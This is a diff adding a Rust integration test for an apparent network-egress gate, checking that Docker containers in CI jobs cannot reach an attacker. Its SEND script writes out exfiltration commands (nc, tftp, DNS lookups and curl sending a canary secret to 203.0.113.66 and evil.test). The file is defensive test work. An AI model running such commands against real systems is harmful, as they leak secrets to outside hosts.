@@ -1,0 +1,143 @@
+//! Containers of real engines are behind the gate: C1, C2 (with a real engine), C5, C6, C7, T9.
+
+mod life;
+
+use anyhow::{Result, ensure};
+use life::{BLOCK, Done, Gate, Puppet, assert_gapless, assert_nothing_left, dns, network};
+use portcullis_common::event::{Direction, Event, NetworkEvent, Verdict};
+use portcullis_tests::world::{Docker, DockerOptions, IMAGE};
+use portcullis_tests::{Canary, JobOutcome, World};
+
+/// What a container sends to the attacker, in a shell: TCP, UDP, ICMP of both families by address, DNS in all ways.
+const SEND: &str = r#"
+for a in 203.0.113.66 2001:db8::66; do
+    echo "$S" | nc -w 1 $a 4444
+    echo "$S" >/tmp/s; timeout 1 tftp -p -l /tmp/s -r "$S" $a 4445
+done
+ping -c 1 -W 1 203.0.113.66; ping -6 -c 1 -W 1 2001:db8::66
+nslookup $S.evil.test
+nslookup $S.evil.test 203.0.113.66
+nslookup $S.evil.test 2001:db8::66
+curl -sS --max-time 2 http://evil.test/$S
+echo sent
+"#;
+
+/// What a container may do under [`BLOCK`].
+const ALLOWED: &str = "curl -sS --max-time 10 -o /dev/null http://ok.test/ && echo arrived";
+
+/// A job on a host with an engine, and what is needed to look at it.
+struct Engine {
+    gate: Gate,
+    docker: Docker,
+}
+
+impl Engine {
+    fn up(runners: u32) -> Result<Self> {
+        let world = World::builder().engine().runners(runners).build()?;
+        let docker = world.docker(&DockerOptions::default())?;
+        let gate = Gate::up(world, &[("block", BLOCK)])?;
+        Ok(Self { gate, docker })
+    }
+}
+
+/// A script of a job that runs `script` in a container made with `options`.
+fn contained(options: &str, script: &str) -> String {
+    format!(
+        "cat >\"$PUPPET/inside.sh\" <<'END'\n{script}\nEND\ndocker run --rm -i -e S {options} {IMAGE} sh -s <\"$PUPPET/inside.sh\""
+    )
+}
+
+fn assert_said(done: &Done, word: &str) -> Result<()> {
+    ensure!(done.output.contains(word), "{done:?}");
+    Ok(())
+}
+
+/// Blocked calls of a container to the attacker, whose container is known by its image.
+fn assert_blocked_from_container(events: &[Event], calls: &[(&str, Option<u16>)]) {
+    for (address, port) in calls {
+        let found = network(events).any(|event| {
+            event.verdict == Verdict::Blocked
+                && event.direction == Direction::Forwarded
+                && event.address.to_string() == *address
+                && event.port == *port
+                && event.container.as_deref().is_some_and(|container| container.contains(IMAGE))
+        });
+        assert!(found, "{address} {port:?}: {:#?}", calls_of(events));
+    }
+}
+
+/// The calls in short, for the message of a failed assertion.
+fn calls_of(events: &[Event]) -> Vec<String> {
+    let in_short = |event: &NetworkEvent| {
+        format!(
+            "{:?} {:?} {} {}:{:?} from {:?}",
+            event.verdict,
+            event.direction,
+            event.protocol,
+            event.address,
+            event.port,
+            event.container
+        )
+    };
+    network(events).map(in_short).collect()
+}
+
+const CALLS: [(&str, Option<u16>); 6] = [
+    ("203.0.113.66", Some(4444)),
+    ("203.0.113.66", Some(4445)),
+    ("203.0.113.66", None),
+    ("2001:db8::66", Some(4444)),
+    ("2001:db8::66", Some(4445)),
+    ("2001:db8::66", None),
+];
+
+/// Without a gate everything arrives, so that the tests below can fail.
+#[test]
+fn without_a_gate_a_container_reaches_the_attacker() -> Result<()> {
+    let world = World::builder().engine().build()?;
+    let docker = world.docker(&DockerOptions::default())?;
+    let canary = Canary::generate()?;
+    let mut puppet = Puppet::start_in(&world, 0, "octo/hello", &canary)?;
+    let twin = puppet.run(&contained("", ALLOWED))?;
+    ensure!(twin.output.contains("arrived"), "{twin:?}\n{}", docker.log());
+    let sent = puppet.run(&contained("", SEND))?;
+    assert_said(&sent, "sent")?;
+    puppet.finish()?;
+    assert!(world.attacker().saw(&canary)?, "{sent:?}\n{}", docker.log());
+    Ok(())
+}
+
+/// C1: `docker0`, and a bridge that the job makes while it runs, with the engine's own resolver and with one of the
+/// container's own choice.
+#[test]
+fn containers_on_bridges_are_judged() -> Result<()> {
+    let Engine { gate, docker } = Engine::up(1)?;
+    let mut puppet = Puppet::start(&gate, 0, "octo/hello")?;
+    let made = puppet.run("docker network create --ipv6 --subnet fd77:1::/64 own")?;
+    ensure!(made.succeeded(), "{made:?}\n{}", docker.log());
+    for options in [
+        "",
+        "--network own",
+        "--dns 203.0.113.66",
+        "--network own --dns 203.0.113.66 --dns 2001:db8::66",
+    ] {
+        let sent = puppet.run(&contained(options, SEND))?;
+        assert_said(&sent, "sent")?;
+        let twin = puppet.run(&contained(options, ALLOWED))?;
+        ensure!(twin.output.contains("arrived"), "{options}: {twin:?}\n{}", gate.monitor.log());
+    }
+    let result = puppet.finish()?;
+    gate.monitor.wait_until_idle()?;
+    assert_eq!(result.outcome, JobOutcome::Success, "{}", result.log());
+    gate.assert_contained(&result)?;
+    let events = gate.last_events()?;
+    assert_gapless(&events);
+    assert_blocked_from_container(&events, &CALLS);
+    let name = gate.canary.as_str().to_lowercase();
+    assert!(
+        dns(&events).any(|query| query.verdict == Verdict::Blocked
+            && query.name.to_lowercase().starts_with(&name)),
+        "{events:#?}"
+    );
+    assert_nothing_left(&gate.world)
+}
